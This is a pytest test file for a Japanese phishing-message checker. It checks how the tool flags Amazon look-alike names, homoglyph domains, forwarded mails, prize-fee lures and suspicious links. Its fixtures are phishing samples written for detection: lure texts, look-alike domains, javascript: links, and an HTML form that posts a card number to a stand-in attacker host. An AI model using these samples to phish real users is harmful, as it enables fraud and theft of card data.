"""Review 38a, round 45 (fix45m): check-message items 7, 12, 14, 11 (b) and S items."""

from __future__ import annotations

from typing import Any

import pytest

from tests.support.clihelp import run


def _data(*args: str, stdin: str | None = None, lang: str = "ja") -> dict[str, Any]:
    result = run("--lang", lang, "check-message", "--json", *args, stdin=stdin)
    data: dict[str, Any] = result.json()["data"]
    return data


def _mail(sender: str, body: str = "お客様のアカウント情報をこのメールに返信してください。") -> str:
    return f'From: "{sender}" <info@example.com>\nSubject: ご確認\n\n{body}\n'


def _flags(data: dict[str, Any], kind: str) -> list[dict[str, Any]]:
    return [flag for flag in data["red_flags"] if flag["kind"] == kind]


# ----------------------------- item 7: katakana look-alikes and one Latin letter off

_LOOKALIKE_NAMES = [
    "アマゾソ",  # 「ソ」 for 「ン」
    "アマソン",  # 「ゾ」 without its marks
    "アマソソ",
    "ｱﾏｿﾞｿ",  # half-width, read as full-width
    "アマゾソ・カスタマーセンター",
    "Amazom",  # a letter changed
    "AMAZOM",
    "Amazn",  # a letter left out
    "Amaozn",  # two letters swapped
    "Arnazom",  # 「rn」 read as 「m」, then a letter changed
]


@pytest.mark.parametrize("name", _LOOKALIKE_NAMES)
def test_7_a_lookalike_sender_name_is_the_lookalike_name_sign(name: str) -> None:
    data = _data("-", stdin=_mail(name))
    assert data["verdict"] == "red_flags_found", name
    (sign,) = _flags(data, "display_name_lookalike")
    # the address is not Amazon's either: said in the same sign, no 「名前はAmazonですが」
    assert "メールアドレスのドメインも" in sign["detail"], sign
    assert not _flags(data, "display_name_mismatch")


@pytest.mark.parametrize("name", _LOOKALIKE_NAMES)
def test_7_a_lookalike_name_in_the_words_is_the_name_sign(name: str) -> None:
    data = _data("--text", f"{name}：お客様のアカウントについてのお知らせ")
    assert data["verdict"] == "red_flags_found", name
    assert _flags(data, "name_lookalike"), name


def test_7_each_katakana_letter_is_named() -> None:
    (sign,) = _flags(_data("-", stdin=_mail("アマゾソ")), "display_name_lookalike")
    assert (
        "「アマゾソ」は、Amazonの一部の文字を、見た目がよく似た別の文字に置き換えた"
        in sign["detail"]
    )
    assert "4文字目の「ソ」は、「ン」ではありません。" in sign["detail"]
    (sign,) = _flags(_data("--text", "アマソンより"), "name_lookalike")
    assert "3文字目の「ソ」は、「ゾ」ではありません。" in sign["detail"]


@pytest.mark.parametrize(
    ("name", "how"),
    [("Amazn", "を抜いて"), ("Amaozn", "の順番を入れ替えて"), ("Amazom", "を変えて")],
)
def test_7_how_a_latin_name_imitates_is_said(name: str, how: str) -> None:
    (sign,) = _flags(_data("-", stdin=_mail(name)), "display_name_lookalike")
    assert f"「{name}」は、Amazonの文字{how}" in sign["detail"]


@pytest.mark.parametrize(
    "text",
    [
        "アマゾンプライムのご案内です。",
        "アマゾン川の写真を見ました。",
        "Amazon2段階認証を設定しました。",
        "The Amazons of legend.",
        "What an amazing offer.",
        "Amazon.co.jp でのご注文です。",
    ],
)
def test_7_ordinary_words_are_no_lookalike_name(text: str) -> None:
    assert not _flags(_data("--text", text), "name_lookalike"), text


def test_7_a_confusable_letter_is_not_read_as_a_letter_left_out() -> None:
    signs = _flags(_data("--text", "Аmazonプライム"), "name_lookalike")  # a Cyrillic 「А」
    assert [sign["evidence"] for sign in signs] == ["Аmazon"]


def test_7_the_genuine_name_keeps_its_mismatch_sign() -> None:
    data = _data("-", stdin=_mail("アマゾン"))
    assert _flags(data, "display_name_mismatch")
    assert not _flags(data, "display_name_lookalike")


# ----------------------------- item 12: a Latin letter that reads as another

_LATIN_ALIKE_HOSTS = [
    ("ɑmazon.co.jp", "ɑ", "a"),
    ("amazon-loɡin.com", "ɡ", "g"),
    ("amazon-sıgnin.com", "ı", "i"),
    ("amazon-ȷp.com", "ȷ", "j"),
    ("amazon-sɩgnin.com", "ɩ", "i"),
    ("amazon-sɪgnin.com", "ɪ", "i"),
]


@pytest.mark.parametrize(("host", "letter", "plain"), _LATIN_ALIKE_HOSTS)
def test_12_a_latin_lookalike_letter_is_the_confusable_sign(
    host: str, letter: str, plain: str
) -> None:
    text = f"Amazon https://{host}/"
    (sign,) = _flags(_data("--text", text), "confusable_characters")
    assert f"の「{letter}」は、普通の「{plain}」ではありません。" in sign["detail"]
    assert "ラテン文字の" not in sign["detail"]  # not 「ラテン文字の「a」ではなくラテン文字です」
    out = run("--lang", "ja", "check-message", "--text", text, env={"COLUMNS": "200"}).stdout
    encoded = host.encode("idna").decode()
    assert f"ドメイン：{encoded.split('.', 1)[0]}" in out, out  # the name it really is
    assert f"（表示上は「{host.split('/')[0]}」）" in out or f"表示上は「{host}」" in out


def test_12_every_non_ascii_domain_shows_its_xn_form() -> None:
    for host in ("аmazon.co.jp", "ɑmazon-login.com", "amazοn-help.net"):  # Cyrillic, Latin, Greek
        out = run("--lang", "ja", "check-message", "--text", f"https://{host}/x").stdout
        assert "ドメイン：xn--" in out, (host, out)
        (read,) = [line for line in out.splitlines() if line.startswith("・リンク：")]
        assert "（xn--" in read, (host, read)  # under 「読み取った内容」 too


def test_12_a_latin_lookalike_name_in_the_words() -> None:
    (sign,) = _flags(_data("--text", "From ɑmazon: お知らせ"), "name_lookalike")
    assert "1文字目の「ɑ」は、普通の「a」ではありません。" in sign["detail"]


# ----------------------------- item 14: one look-alike-domain reason for several domains

_LOOKALIKE_DOMAINS = ["amazon-co-jp.top", "amazon-help.cn", "amazon-prime-jp.xyz", "amazonjp.shop"]


@pytest.mark.parametrize("many", [2, 3, 4])
def test_14_lookalike_domains_are_one_sign_with_the_reason_once(many: int) -> None:
    domains = _LOOKALIKE_DOMAINS[:many]
    found = [f"https://{d}/x" if at % 2 else f"info@{d}" for at, d in enumerate(domains)]
    text = "Amazonからのお知らせ " + " または ".join(found)
    out = run("--lang", "ja", "check-message", "--text", text, env={"COLUMNS": "200"}).stdout
    assert out.count("偽サイトや偽の差出人でよく使われる名前の例です") == 1, out
    assert f"Amazonに似せたドメイン（{many}件）" in out, out
    (line,) = [one for one in out.splitlines() if "ドメイン：" in one]
    assert sorted(line.split("ドメイン：")[1].split("、")) == sorted(domains), line
    for one in found:
        assert f"・{one}" in out, out


# ----------------------------- item 11 (b): a mail forwarded inline

_FORWARDS = [
    # Gmail
    "---------- Forwarded message ---------\nFrom: {sender}\nDate: 2026年12月4日(金) 10:00\n"
    "Subject: Amazonプライムのお知らせ\nTo: <taro@gmail.com>\n",
    # Gmail in Japanese, Japanese field names
    "---------- 転送メッセージ ---------\n差出人: {sender}\n日付: 2026年12月4日\n"
    "件名: Amazonプライムのお知らせ\n宛先: <taro@gmail.com>\n",
    # Thunderbird: the subject first
    "-------- Forwarded Message --------\nSubject: Amazonプライムのお知らせ\n"
    "Date: Fri, 4 Dec 2026 10:00:00 +0900\nFrom: {sender}\nTo: taro@gmail.com\n",
    # Outlook
    "-----Original Message-----\nFrom: {sender}\nSent: Friday, December 4, 2026 10:00 AM\n"
    "To: taro@gmail.com\nSubject: Amazonプライムのお知らせ\n",
    # Apple Mail
    "Begin forwarded message:\n\nFrom: {sender}\nSubject: Amazonプライムのお知らせ\n"
    "Date: December 4, 2026\nTo: taro@gmail.com\n",
]


def _forward(block: str) -> str:
    sender = "Amazon.co.jp <info@prime-notice.example>"
    return (
        "From: Taro <taro@gmail.com>\nTo: taro@gmail.com\nSubject: Fwd: Amazonプライムのお知らせ\n"
        "Content-Type: text/plain; charset=UTF-8\n\nこれ本物？\n\n"
        + block.format(sender=sender)
        + "\nお客様のプライム会員資格は本日で終了します。\n"
    )


@pytest.mark.parametrize("block", _FORWARDS)
def test_11b_an_inline_forward_is_checked_as_the_original_mail(block: str) -> None:
    data = _data("-", stdin=_forward(block))
    headers = data["headers"]
    assert headers["from_address"] == "info@prime-notice.example", headers
    assert headers["from_name"] == "Amazon.co.jp"
    assert headers["subject"] == "Amazonプライムのお知らせ"
    assert headers["forwarded_by"] == "Taro <taro@gmail.com>"
    assert headers["forwarded_inline"] is True
    # the original's sender is checked as a From: its name says Amazon, its address does not
    (sign,) = _flags(data, "display_name_mismatch")
    assert sign["evidence"] == "Amazon.co.jp <info@prime-notice.example>"
    known = [note["id"] for note in data["could_not_know"]]
    assert "message.limit.forwarded_inline" in known
    assert "message.limit.no_authentication" not in known  # said of the forwarder's mail


def test_11b_the_screen_says_whose_headers_are_shown() -> None:
    out = run("--lang", "ja", "check-message", "-", stdin=_forward(_FORWARDS[0])).stdout
    assert "本文に転送されていた元のメールを確認しました" in out
    assert "（転送した人：Taro<taro@gmail.com>）" in "".join(out.split())


def test_11b_a_from_line_without_a_forward_marker_is_body_text() -> None:
    mail = (
        "From: Taro <taro@gmail.com>\nSubject: memo\n\n"
        "From: Amazon.co.jp <info@prime-notice.example>\nと書かれたメールが来ました。\n"
    )
    headers = _data("-", stdin=mail)["headers"]
    assert headers["from_address"] == "taro@gmail.com"
    assert headers["forwarded_inline"] is False


# ----------------------------- S 23: a look-alike Reply-To says it imitates Amazon's name


@pytest.mark.parametrize(
    ("reply_to", "imitates"),
    [
        ("support@amaz0n-help.com", True),
        ("support@amazon-support.xyz", True),
        ("x@arnazon-jp.com", True),
        ("a@example.com", False),
        ("help@amazon.de", False),  # Amazon's site of another country: no look-alike
        ("x@mail.amazonaws.com", False),  # a hosting service's own name
    ],
)
def test_s23_a_lookalike_reply_to_says_so(reply_to: str, imitates: bool) -> None:
    mail = f"From: Amazon <no-reply@amazon.co.jp>\nReply-To: {reply_to}\nSubject: x\n\nhello\n"
    (sign,) = _flags(_data("-", stdin=mail), "reply_to_outside")
    assert ("このドメインは、Amazonに似せた名前です。" in sign["detail"]) is imitates, sign


# ----------------------------- S 35: the headline names the address beside links and numbers

_HELD = {
    "https://bit.ly/x": "リンクを開いたり",
    "050-1234-5678": "番号に電話したり",
    "アマゾン.jp": "サイトを開いたり",  # review 52a, item 33
}


@pytest.mark.parametrize("address", ["help@amazon-help.cn", "amazon-support@gmail.com"])
@pytest.mark.parametrize(
    "held",
    [
        (),
        ("https://bit.ly/x",),
        ("050-1234-5678",),
        ("https://bit.ly/x", "050-1234-5678"),
        ("アマゾン.jp",),
        ("アマゾン.jp", "050-1234-5678"),
    ],
)
def test_s35_the_headline_says_not_to_write_to_the_address(
    held: tuple[str, ...], address: str
) -> None:
    text = "Amazonサポート: " + " または ".join((*held, address)) + " へご連絡ください"
    said = _data("--text", text)["verdict_text"]
    assert "メールを送ったり" in said, (text, said)
    for one in held:
        assert _HELD[one] in said, (text, said)


def test_s35_a_sender_address_is_no_address_to_write_to() -> None:
    mail = "From: Amazon <info@amazon-help.cn>\nSubject: x\n\nhello\n"
    assert "メールを送ったり" not in _data("-", stdin=mail)["verdict_text"]


# ----------------------------- S 36: a prize lure is named under 「確認できなかったこと」


def _unchecked(text: str) -> tuple[str, str]:
    data = _data("--text", text)
    return data["verdict_text"], " ".join(note["text"] for note in data["could_not_know"])


@pytest.mark.parametrize(
    "text",
    [
        "【Amazon】抽選で1万円分のAmazonギフトカードが当選しました。受け取りには送料300円のお支払いが必要です。",
        "Amazonプレゼントキャンペーン：景品が当たりました。手数料500円をお支払いください。",
        "Amazon: Congratulations, you have won a prize! Please pay the shipping fee of 300 yen.",
    ],
)
def test_s36_a_prize_with_a_fee_is_named_never_nothing(text: str) -> None:
    verdict, notes = _unchecked(text)
    assert "当選した賞品を受け取るための送料や手数料の支払い" in notes, notes
    assert "判断できない依頼や警告があります（下の「確認できなかったこと」）" in verdict


@pytest.mark.parametrize(
    "text",
    ["Amazon: 送料350円のお支払いが必要です。", "Amazonプライムの当選キャンペーンのお知らせです。"],
)
def test_s36_a_fee_or_a_prize_alone_is_not_named(text: str) -> None:
    assert "賞品" not in _unchecked(text)[1]


# ----------------------------- S 38: block elements and form controls are not run together


@pytest.mark.parametrize(
    "tag", ["section", "article", "header", "footer", "th", "dt", "dd", "blockquote", "form"]
)
def test_s38_two_blocks_are_two_lines(tag: str) -> None:
    from primehelp.message_html import reduce_html_seen

    text, _, _ = reduce_html_seen(
        f"<html><body><{tag}>カード番号</{tag}><{tag}>送信</{tag}></body></html>"
    )
    assert "カード番号送信" not in text.replace(" ", "")
    assert "カード番号" in text and "送信" in text


def test_s38_a_form_reads_as_one_sentence_of_its_controls() -> None:
    from primehelp.message_html import reduce_html_seen

    html = (
        '<form action="https://collect.evil.top/post"><label>カード番号</label><input name="c">'
        "<button>送信</button></form><p>Amazonプライム</p>"
    )
    text, _, _ = reduce_html_seen(html)
    assert next(line for line in text.split("\n") if line) == "カード番号 ／ 送信", text
    mail = f"From: x@example.com\nSubject: x\nContent-Type: text/html; charset=UTF-8\n\n{html}\n"
    (sign,) = [f for f in _data("-", stdin=mail)["red_flags"] if f["kind"] == "asks_for_details"]
    assert sign["evidence"] == "カード番号 ／ 送信"


# ----------------------------- S 37: a data: or javascript: link is no address shown vs target


def _html_mail(body: str) -> str:
    return f"From: x@example.com\nSubject: x\nContent-Type: text/html; charset=UTF-8\n\n{body}\n"


@pytest.mark.parametrize(
    "target",
    [
        "data:text/html;base64,PGgxPng8L2gxPg==",
        "javascript:alert(1)",
        "JavaScript:void(0)",
        "vbscript:msgbox(1)",
        "file:///C:/x.html",
    ],
)
def test_s37_a_link_that_goes_nowhere_on_the_web_says_what_it_is(target: str) -> None:
    data = _data("-", stdin=_html_mail(f'<p>Amazon</p><a href="{target}">ログイン</a>'))
    (sign,) = _flags(data, "non_web_link")
    assert "表示されているアドレス" not in sign["detail"], sign
    assert "https://…）ではなく" in sign["detail"]


def test_s37_a_mailto_link_showing_a_host_keeps_its_reason() -> None:
    body = '<a href="mailto:a@b.example">https://www.amazon.co.jp/</a>'
    (sign,) = _flags(_data("-", stdin=_html_mail(body)), "link_text_mismatch")
    assert "リンクに表示されているアドレスと、実際のリンク先が違います。" in sign["detail"]


# ----------------------------- S 22: attached files are named under 「確認できなかったこと」


def _attached(*parts: str) -> str:
    body = "".join(f"--b\n{part}\n" for part in parts)
    return (
        "From: Amazon <info@example.com>\nSubject: x\nMIME-Version: 1.0\n"
        'Content-Type: multipart/mixed; boundary="b"\n\n'
        "--b\nContent-Type: text/plain; charset=UTF-8\n\n"
        f"添付のファイルを開いて、手続きを完了してください。\n{body}--b--\n"
    )


@pytest.mark.parametrize(
    ("disposition", "name"),
    [
        ('attachment; filename="verify.html"', "verify.html"),
        ("attachment; filename*=UTF-8''%E6%98%8E%E7%B4%B0.zip", "明細.zip"),
        ('attachment; filename="invoice.pdf"', "invoice.pdf"),
    ],
)
def test_s22_an_attached_file_is_named(disposition: str, name: str) -> None:
    part = f"Content-Type: application/octet-stream\nContent-Disposition: {disposition}\n\nxx"
    notes = " ".join(n["text"] for n in _data("-", stdin=_attached(part))["could_not_know"])
    # the note of review 39a item 5, which names each file with its kind, does S 22 too
    assert f"添付ファイル「{name}」" in notes and "の中身は確認していません。" in notes, notes


def test_s22_an_image_without_a_name_keeps_the_general_note() -> None:
    part = "Content-Type: image/png\nContent-Disposition: inline\n\nxx"
    known = [n["id"] for n in _data("-", stdin=_attached(part))["could_not_know"]]
    assert "message.limit.parts_not_read" in known
    assert "message.limit.attachments_not_read" not in known
